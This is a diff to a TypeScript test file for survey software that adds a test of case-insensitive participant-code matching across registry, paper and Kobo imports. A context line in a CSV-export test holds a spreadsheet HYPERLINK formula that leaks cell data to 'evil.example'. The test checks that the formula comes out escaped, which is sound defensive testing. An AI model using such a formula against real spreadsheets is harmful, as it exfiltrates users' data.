@@ -8,6 +8,7 @@ import type { InputError } from "../../src/domain/Errors.js"
 import { questionsFor, type Instrument } from "../../src/domain/Instrument.js"
 import { exportSurveyCsv, importSurveyAnswers, inviteToSurvey, remindSurvey, surveyToken, surveyTokenKey, tokenHash } from "../../src/surveys/Surveys.js"
 import type { Workspace } from "../../src/infra/Workspace.js"
+import { importRegistryFile } from "../../src/registries/Registries.js"
 import { rawAnswer } from "../support/answers.js"
 import { failWith, type OpenTestDatabase, runWith, testDatabases } from "../support/databases.js"
 import { inviteAll, outboxOf, useSurveyWorkspace } from "../support/survey-workspace.js"
@@ -21,6 +22,11 @@ describe.each(testDatabases)("surveys on $name", (testDb) => {
   let instrument: Instrument
   beforeEach(() => void ({ shape, ws, instrument } = suite()))
   const outbox = () => outboxOf(ws)
+  const writeIn = async (name: string, text: string): Promise<string> => {
+    const path = join(ws.dir, name)
+    await writeFile(path, text)
+    return path
+  }
   const invite = (wave = "pre") => inviteAll(shape, ws, wave)
 
   it("invites each participant with an address once, in their locale, with an unguessable link", async () => {
@@ -119,6 +125,19 @@ describe.each(testDatabases)("surveys on $name", (testDb) => {
     const csv = await readFile(out, "utf8")
     expect(csv).toContain(`,${text.id},"'=HYPERLINK(""http://evil.example/?""&A1,""click me"")"\n`)
     expect(csv).toContain(`,${number.id},-2\n`)
+  })
+
+  it("matches a code registered in lower case with paper and Kobo rows in any case (issue 13)", async () => {
+    await runWith(shape, importRegistryFile("participants", await writeIn("lower.csv", "id,site_id,code\np-lower-1,gb-london,abcd-lower-1\np-lower-2,gb-london, Abcd-Lower-2 \n")))
+    const stored = await shape.db.selectFrom("participants").select(["id", "code"]).where("id", "like", "p-lower-%").orderBy("id").execute()
+    expect(stored).toEqual([{ id: "p-lower-1", code: "ABCD-LOWER-1" }, { id: "p-lower-2", code: "ABCD-LOWER-2" }])
+    const paper = await runWith(shape, importSurveyAnswers(ws, await writeIn("paper-lower.csv", paperCsv(["abcd-lower-1"])), { wave: "pre" }))
+    expect(paper).toMatchObject({ rows: 1, imported: 1 })
+    const scale = questionsFor(instrument, "pre").find((q) => q.type === "scale")!
+    const kobo = await runWith(shape, importSurveyAnswers(ws, await writeIn("kobo-lower.csv", `participant_code,${scale.id}\n aBcD-lOwEr-2 ,${rawAnswer(scale, 0)}\n`), { wave: "pre", format: "kobo" }))
+    expect(kobo).toMatchObject({ rows: 1, imported: 1 })
+    const answered = await shape.db.selectFrom("survey_responses").select("participant_id").where("participant_id", "like", "p-lower-%").orderBy("participant_id").execute()
+    expect(answered.map((r) => r.participant_id)).toEqual(["p-lower-1", "p-lower-2"])
   })
 
   it("reports every bad cell as FILE:LINE:COLUMN and writes nothing", async () => {
